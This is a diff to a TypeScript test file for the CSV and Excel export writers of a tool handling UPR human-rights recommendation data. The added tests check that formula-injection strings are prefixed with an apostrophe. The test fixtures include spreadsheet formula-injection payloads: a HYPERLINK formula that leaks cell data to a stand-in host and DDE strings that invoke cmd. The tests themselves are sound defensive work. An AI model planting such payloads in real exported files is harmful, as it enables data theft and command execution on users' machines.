@@ -6,6 +6,7 @@ import { parse } from 'csv-parse/sync';
 import { openStore, importUprInfoRows } from '../store/index.js';
 import { parseUprInfoCsv } from '../ingest/index.js';
 import { exportRecords, writeExport, FLAT_COLUMNS, type ExportFormat } from './index.js';
+import { neutraliseFormula } from './writers.js';
 
 const HEADER = 'To,To-Rgrp,To-Org,Text,From,From-Rgrp,From-Org,Response,Action,Issue,Session';
 const CSV = `${HEADER}
@@ -14,16 +15,16 @@ and monitor drop-out.",Côte d'Ivoire,Africa,AU,Accepted,4,"Minorities,Rights of
 Chad,Africa,AU,Abolish child labour.,France,WEOG,EU,Noted,5,Rights of the Child,5
 `;
 
-async function exportTo(format: ExportFormat): Promise<Buffer> {
+async function exportTo(format: ExportFormat, csv = CSV, expected = 2): Promise<Buffer> {
   const db = openStore(':memory:');
-  importUprInfoRows(db, { kind: 'upr-info-csv', path: 'fixture.csv', fileName: 'fixture.csv', sha256: 'abc', sizeBytes: 1 }, parseUprInfoCsv(CSV, 'fixture.csv').value);
+  importUprInfoRows(db, { kind: 'upr-info-csv', path: 'fixture.csv', fileName: 'fixture.csv', sha256: 'abc', sizeBytes: 1 }, parseUprInfoCsv(csv, 'fixture.csv').value);
   const { records } = exportRecords(db, { filters: {}, baseUrl: 'http://127.0.0.1:8080/' });
   const out = new PassThrough();
   const chunks: Buffer[] = [];
   out.on('data', (c: Buffer) => chunks.push(c));
   const n = await writeExport(format, records, out);
   out.end();
-  assert.equal(n, 2);
+  assert.equal(n, expected);
   return Buffer.concat(chunks);
 }
 
@@ -56,5 +57,27 @@ describe('export writers', () => {
     assert.deepEqual((ws.getRow(1).values as unknown[]).slice(1), [...FLAT_COLUMNS]);
     const texts = [2, 3].map((i) => String(ws.getRow(i).getCell(FLAT_COLUMNS.indexOf('text') + 1).value));
     assert.ok(texts.includes('Abolish child labour.'));
+  });
+
+  it('neutralises spreadsheet formulas in CSV text cells the way OWASP describes (leading apostrophe)', async () => {
+    const attacks = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    ];
+    const rows = attacks.map((t) => `Chad,Africa,AU,"${t.replace(/"/g, '""')}",France,WEOG,EU,Accepted,5,Rights of the Child,5`);
+    const text = (await exportTo('csv', `${HEADER}\n${rows.join('\n')}\n`, attacks.length)).toString('utf8');
+    const cells = (parse(text.slice(1), { columns: true }) as Record<string, string>[]).map((r) => r.text);
+    assert.deepEqual(cells.sort(), attacks.map((a) => `'${a}`).sort());
+    for (const c of cells) assert.doesNotMatch(c!, /^[=+\-@\t\r]/);
+  });
+
+  it('prefixes exactly the cells a spreadsheet would read as formulas', () => {
+    const table: [string, string][] = [
+      ['=1+1', "'=1+1"], ['+1', "'+1"], ['-1', "'-1"], ['@A1', "'@A1"], ['\t=1+1', "'\t=1+1"], ['\r=1+1', "'\r=1+1"],
+      ['Ratify the OPAC', 'Ratify the OPAC'], ['a=b', 'a=b'], ['', ''], ["'quoted", "'quoted"],
+    ];
+    for (const [input, output] of table) assert.equal(neutraliseFormula(input), output, JSON.stringify(input));
   });
 });
